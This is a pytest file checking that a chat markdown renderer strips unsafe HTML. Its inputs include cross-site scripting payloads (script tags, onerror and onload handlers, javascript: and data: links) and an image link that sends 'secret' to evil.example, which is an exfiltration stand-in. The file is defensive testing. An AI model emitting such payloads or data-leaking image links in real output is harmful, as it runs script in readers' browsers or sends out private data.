"""What a model or a person wrote, as HTML that may be shown."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.chat.markdown import MAX_CHARACTERS, render_markdown


@pytest.mark.promise("CHT-1")
@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "![secret](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<a href='javascript:alert(1)'>x</a>",
        "<style>*{display:none}</style>",
        "<iframe src=//evil.example></iframe>",
        "<svg/onload=alert(1)>",
        '[x](https://a.example "\\" onclick=alert(1))',
        "[a]: javascript:alert(1)\n\n[a]",
    ],
)
def test_it_lets_nothing_through_that_runs_or_calls_home(text: str) -> None:
    tags = " ".join(re.findall(r"<[^>]*>", render_markdown(text).lower()))
    assert not re.search(r"<(script|img|style|iframe|svg)|javascript:|data:|\son\w+=", tags)


def test_links_tell_the_other_side_nothing() -> None:
    assert render_markdown("[x](https://a.example)") == (
        '<p><a href="https://a.example" rel="noopener noreferrer nofollow">x</a></p>\n'
    )


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**b** and *i*", "<p><strong>b</strong> and <em>i</em></p>\n"),
        ("# Title", "<h4>Title</h4>\n"),
        ("###### Deep", "<h6>Deep</h6>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("```sql\nSELECT 1 < 2\n```", "<pre><code>SELECT 1 &lt; 2\n</code></pre>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("`<b>`", "<p><code>&lt;b&gt;</code></p>\n"),
    ],
)
def test_it_renders_what_people_write(text: str, html: str) -> None:
    assert render_markdown(text) == html


def test_tables_keep_their_shape() -> None:
    assert "<td>1</td>" in render_markdown("| a | b |\n|---|---|\n| 1 | 2 |")


def test_a_text_past_the_limit_is_shown_as_it_is() -> None:
    assert render_markdown("*" * (MAX_CHARACTERS + 1)).startswith("<pre>")


def test_deep_nesting_ends() -> None:
    assert render_markdown("> " * 5000 + "x").count("<blockquote>") <= 20


@given(st.text(alphabet=st.sampled_from("<>\"'&;:/()[]!`*#-_= \nscriptimgonerrjvahf"), max_size=200))
@settings(max_examples=200, deadline=None)
def test_no_input_makes_a_tag_outside_the_list(text: str) -> None:
    html = render_markdown(text).lower()
    assert "<script" not in html
    assert "<img" not in html
